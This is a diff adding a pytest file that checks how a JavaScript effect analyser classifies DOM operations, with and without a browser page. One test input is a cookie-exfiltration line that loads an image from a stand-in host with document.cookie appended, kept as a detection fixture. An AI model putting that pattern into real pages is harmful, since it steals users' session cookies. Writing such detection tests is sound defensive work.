@@ -1,0 +1,37 @@
+"""Pages: what is set on an element, and that the same names mean nothing in a program that has no page."""
+
+from __future__ import annotations
+
+import pytest
+
+from tests.analyse.javascript.check import effects_of
+
+
+def kinds(program: str) -> set[str]:
+    return {str(effect.kind) for effect in effects_of(program)}
+
+
+@pytest.mark.parametrize(
+    "program",
+    [
+        "image.src = name; form.submit(); node.innerHTML = text; button.click(); x.setAttribute('href', y)",
+        "class Car { constructor() { this.src = 1; this.location = 2 } }; const c = new Car(); c.location = 3; c.click()",
+        "function f(parent) { parent.location = 'here'; return parent.cookie }",
+    ],
+)
+def test_without_a_page_these_are_names_like_others(program: str) -> None:
+    assert kinds(program) == set()
+
+
+@pytest.mark.parametrize(
+    ("program", "kind"),
+    [
+        ("await page.$eval('form', (form) => form.submit())", "http.post"),
+        ("await page.$eval('a', (a) => { a.innerHTML = text })", "opaque"),
+        ("await page.evaluate(() => { const i = new Image(); i.src = 'https://x.example/?' + document.cookie })", "secret.read"),
+        ("await page.evaluate(() => { new Image().src = 'https://x.example/' })", "http.get"),
+        ("document.open(); document.forms[0].requestSubmit()", "http.post"),
+    ],
+)
+def test_functions_that_run_in_a_page_are_judged_as_pages(program: str, kind: str) -> None:
+    assert kind in kinds(program)
